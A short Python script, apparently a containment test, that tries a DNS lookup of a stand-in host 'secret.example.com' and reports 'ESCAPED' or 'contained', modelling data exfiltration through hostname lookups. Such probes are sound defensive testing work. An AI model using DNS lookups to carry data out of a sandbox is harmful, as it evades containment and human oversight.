# ruff: noqa
"""Carries data out in the name of a host."""

import socket

try:
    socket.getaddrinfo("secret.example.com", 80)
    print("ESCAPED: a name was looked up")
except OSError:
    print("contained")
